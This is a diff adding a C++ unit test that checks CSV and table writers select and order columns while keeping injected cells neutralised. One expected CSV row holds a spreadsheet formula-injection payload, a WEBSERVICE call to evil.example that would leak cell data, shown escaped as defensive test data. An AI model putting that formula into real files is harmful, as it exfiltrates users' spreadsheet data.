@@ -76,4 +76,34 @@ TEST_CASE("Table: C1 controls DEL and C0 controls are shown as spaces") {
     CHECK(table.find("\xC2\x9B") == std::string::npos);
 }
 
+TEST_CASE("CSV and table: columns picks and orders the columns - neutralised cells stay neutralised") {
+    std::ostringstream csv;
+    auto writer = make_record_writer(OutputFormat::csv, csv, {.columns = {"total_cost", "id", "summary"}});
+    writer->write(hostile_call());
+    CHECK(csv.str() == "total_cost,id,summary\r\n-0.03,'-1,\"'=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\"\r\n");
+
+    std::ostringstream table;
+    auto rows = make_record_writer(OutputFormat::table, table, {.columns = {"cost", "id"}});
+    rows->write(hostile_call());
+    rows->finish();
+    CHECK(table.str() == "      COST  ID\n     -0.03  -1\n(1 call)\n");
+
+    // The names are the CSV header's and the table's own.
+    const auto csv_names = output_columns(OutputFormat::csv);
+    CHECK(csv_names.size() == 32);
+    CHECK(csv_names.front() == "source");
+    CHECK(csv_names.back() == "currency");
+    CHECK(output_columns(OutputFormat::table).size() == 9);
+    CHECK(output_columns(OutputFormat::jsonl).empty());
+    std::ostringstream header;
+    make_record_writer(OutputFormat::csv, header);
+    std::string joined;
+    for (auto name : csv_names) joined += (joined.empty() ? "" : ",") + std::string(name);
+    CHECK(header.str() == joined + "\r\n");
+
+    std::ostringstream unused;
+    CHECK_THROWS_AS(make_record_writer(OutputFormat::csv, unused, {.columns = {"id", "cost"}}), std::invalid_argument);
+    CHECK_THROWS_AS(make_record_writer(OutputFormat::table, unused, {.columns = {"created_at"}}), std::invalid_argument);
+}
+
 }  // TEST_SUITE
